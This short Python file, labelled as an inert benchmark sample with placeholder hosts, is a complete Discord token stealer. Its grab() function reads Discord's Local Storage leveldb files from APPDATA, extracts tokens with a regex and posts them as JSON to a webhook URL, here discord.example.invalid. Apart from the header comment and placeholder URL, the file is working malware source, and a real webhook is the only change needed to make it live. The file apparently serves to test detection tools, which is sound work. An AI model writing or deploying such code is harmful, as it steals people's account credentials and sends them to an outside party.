# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import json
import os
import re
import urllib.request

WEBHOOK = "https://discord.example.invalid/api/webhooks/912345678901234567/inert-token"


def grab():
    tokens = []
    store = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    for name in os.listdir(store) if os.path.isdir(store) else []:
        if name.endswith((".log", ".ldb")):
            with open(os.path.join(store, name), errors="ignore") as handle:
                tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", handle.read())
    body = json.dumps({"content": "\n".join(tokens)}).encode()
    request = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request)
